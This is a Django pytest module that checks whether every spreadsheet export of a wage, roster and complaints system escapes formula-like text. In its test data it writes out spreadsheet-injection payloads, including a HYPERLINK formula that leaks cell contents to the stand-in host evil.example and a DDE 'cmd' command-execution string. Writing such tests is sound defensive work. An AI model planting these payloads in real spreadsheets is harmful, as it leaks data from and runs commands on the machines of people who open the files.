"""Exported cells never start a formula: every .xlsx export, fed formula-like text, is opened with openpyxl.

Every text field of the records behind the exports is overwritten with formula-looking text (as data that
came through an import or the API could be), then each export is downloaded and every cell checked: no
formula cell, and no string starting with = + - @ (tab, CR) unless prefixed with an apostrophe.
The test fails when a new export route (".xlsx" or "export" in its path) is not in EXPORTS.
"""

import csv
import datetime
import io
import itertools

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from blacklist.models import BlacklistEntry
from complaints.models import Complaint, EnforcementOrder
from deposits.models import WageDeposit
from projects.models import Enterprise, Hazard, ImportJob, Project, RosterEntry, SweepRun, Worker
from reports.models import KeyTask
from risk import services as risk_services
from tests.blacklist.factories import make_listed
from tests.complaints.factories import make_complaint
from tests.deposits.factories import make_deposit
from tests.projects.factories import make_project, make_roster_entry, valid_id
from tests.reports.factories_keytasks import make_task
from tests.wages.factories import make_pay_line
from wages.models import PayLine

pytestmark = pytest.mark.django_db
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]
_n = itertools.count()


def _poison(model, queryset=None):
    """Overwrite every free-text field (no choices, not a hash or encrypted) with formula-looking text."""
    fields = [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and not f.name.endswith("_hash")
        and "Encrypted" not in type(f).__name__
        and f.get_internal_type() in ("CharField", "TextField")
    ]
    for pk in (queryset if queryset is not None else model.objects.all()).values_list("pk", flat=True):
        values = {}
        for f in fields:
            text = f"{FORMULAS[next(_n) % len(FORMULAS)]}{pk}"
            values[f.name] = text[: f.max_length] if f.max_length else text
        model.objects.filter(pk=pk).update(**values)


def _bad_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    bad = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                v = cell.value
                if cell.data_type == "f" or (
                    isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r"))
                ):
                    bad.append((sheet.title, cell.coordinate, v))
    return bad


def _poisoned_roster() -> bytes:
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["身份证号", "姓名", "手机号码", "班组", "进场时间"])
    w.writerow(["=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+team", "-3"])
    w.writerow([valid_id(), "+张三", "13800000000", "=HYPERLINK(1)", "2026-01-01"])
    return out.getvalue().encode()


def _roster_errors_job(client, project) -> ImportJob:
    """A roster upload whose rows have errors, through the real view: its error workbook repeats the cells."""
    upload = SimpleUploadedFile("roster.csv", _poisoned_roster())
    client.post(reverse("projects:import_upload", args=[project.pk]), {"file": upload})
    job = ImportJob.objects.get(kind=ImportJob.Kind.ROSTER)
    assert job.errors
    return job


def _batch_errors_job(client, project) -> ImportJob:
    """The same rows in a batch of rosters (projects:import_many): its error workbook too."""
    upload = SimpleUploadedFile(f"{project.code}.csv", _poisoned_roster())
    client.post(reverse("projects:import_many"), {"rosters": [upload]})
    job = ImportJob.objects.get(kind=ImportJob.Kind.ROSTERS)
    assert job.errors
    return job


EXPORTS = {
    "projects:export": lambda o: [],
    "projects:roster_export": lambda o: [o["project"].pk],
    "projects:import_errors": lambda o: [o["import_job"].pk],
    "projects:import_many_errors": lambda o: [o["batch_job"].pk],
    "projects:import_template": lambda o: ["roster"],
    "risk:export": lambda o: [],
    "complaints:export": lambda o: [],
    "complaints:documents_export": lambda o: [],
    "blacklist:export": lambda o: [],
    "deposits:export": lambda o: [],
    "reports:task_export": lambda o: [],
    "wages:project_export": lambda o: [o["project"].pk],
    "wages:arrears_export": lambda o: [],
}


def _export_routes() -> set[str]:
    names = set()

    def walk(resolver, prefix="", ns=""):
        for p in resolver.url_patterns:
            if isinstance(p, URLResolver):
                walk(p, prefix + str(p.pattern), f"{ns}{p.namespace}:" if p.namespace else ns)
            elif isinstance(p, URLPattern):
                route = prefix + str(p.pattern)
                if (".xlsx" in route or "export" in route) and not route.startswith(("admin/", "api/")):
                    names.add(f"{ns}{p.name}")

    walk(get_resolver())
    return names


def test_every_export_route_is_covered():
    assert _export_routes() == set(EXPORTS), "add the new export to EXPORTS"


def test_no_exported_cell_starts_a_formula(admin, office, township_a, department, client_for):
    project = make_project(township_a, department)
    make_pay_line(
        make_roster_entry(project), datetime.date(2026, 1, 1), net=None, paid_on=None, bank_reference="R"
    )
    make_complaint(project=project)
    risk_services.sweep_run(run=SweepRun.objects.create())
    listed = make_listed(user=office, project=make_project(township_a, department))
    make_deposit(project, cash="10000", user=office)
    make_task(departments=[department], townships=[township_a])
    client = client_for(admin)
    objects = {
        "project": project,
        "import_job": _roster_errors_job(client, project),
        "batch_job": _batch_errors_job(client, project),
    }
    for model in (
        Enterprise,
        Project,
        Worker,
        RosterEntry,
        Complaint,
        EnforcementOrder,
        Hazard,
        KeyTask,
        PayLine,
    ):
        _poison(model)
    _poison(BlacklistEntry, BlacklistEntry.objects.filter(pk=listed.pk))
    assert Hazard.objects.exists() and WageDeposit.objects.exists() and EnforcementOrder.objects.exists()

    problems = {}
    for name, args in EXPORTS.items():
        response = client.get(reverse(name, args=args(objects)))
        assert response.status_code == 200, (name, response.status_code)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        assert content[:2] == b"PK", name
        bad = _bad_cells(content)
        if bad:
            problems[name] = bad[:5]
        # the poisoned text is really in the workbook (escaped), so the check is not vacuous
        poisoned = ("projects:export", "projects:roster_export", "complaints:export", "risk:export")
        if name in (*poisoned, "wages:project_export", "wages:arrears_export"):
            assert "'=HYPERLINK" in content.decode("latin-1") or b"HYPERLINK" in _strings(content), name
    assert problems == {}


def _strings(content: bytes) -> bytes:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return "".join(
        str(c.value) for s in workbook.worksheets for row in s.iter_rows() for c in row if c.value
    ).encode()
